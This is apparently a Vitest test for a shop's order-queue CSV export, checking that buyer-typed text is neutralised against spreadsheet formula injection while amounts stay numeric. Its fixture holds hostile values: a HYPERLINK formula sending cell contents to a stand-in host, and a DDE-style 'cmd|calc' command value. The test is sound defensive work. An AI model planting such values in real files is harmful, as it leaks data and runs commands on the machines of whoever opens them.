import { describe, expect, it } from 'vitest';
import type { TStaffOrderRow } from '@cubeshop/shared';
import { ordersCsv } from './csv';

// The order queue's CSV export against formula injection (docs/security.md, What is defended):
// text a buyer typed (receiver, account, e-mail) opens as text, amounts stay numbers.
const row = (over: Partial<TStaffOrderRow>): TStaffOrderRow => ({
  id: 10000001,
  createdTime: '2026-11-20T10:00:00.000Z',
  status: 'confirm',
  paymentStatus: 'unpaid',
  logisticsStatus: 'pending',
  trackingNumber: null,
  carrier: null,
  currency: 'USD',
  totalAmount: 30,
  totalCny: 213,
  balance: -12.5,
  lineCount: 1,
  quantity: 2,
  chargeableWeight: 0.25,
  country: 'US',
  deliveryUser: 'Ada',
  expressMethod: { id: 'dhl', name: 'DHL' },
  payMethod: { id: 'tt', name: 'T/T' },
  buyer: { id: 7, account: 'ada', name: 'Ada', email: 'ada@example.com', mobile: null },
  lapsesAt: null,
  fulfillment: 'none',
  ...over,
});

describe('ordersCsv', () => {
  it('neutralises formula-looking text in every column and keeps amounts numbers', () => {
    const csv = ordersCsv([
      row({
        deliveryUser: '=HYPERLINK("http://ev.il/?"&A1,"Pay here")',
        buyer: { id: 7, account: '@SUM(1+1)', name: 'x', email: '+1@ev.il', mobile: '-1+cmd|calc' },
      }),
    ]);
    const line = csv.split('\r\n').length > 1 ? csv.split('\r\n')[1]! : csv.split('\n')[1]!;
    expect(line).toContain(`"'=HYPERLINK(""http://ev.il/?""&A1,""Pay here"")"`);
    expect(line).toContain(",'@SUM(1+1),");
    expect(line).toContain(",'+1@ev.il,");
    expect(line).toContain(",'-1+cmd|calc,");
    // The negative balance stays a number a spreadsheet adds up.
    expect(line).toContain(',30.00,213.00,-12.50,');
    expect(line).not.toMatch(/(^|,)"?[=+@]/);
    expect(csv.startsWith('\uFEFFid,created,')).toBe(true);
  });
});
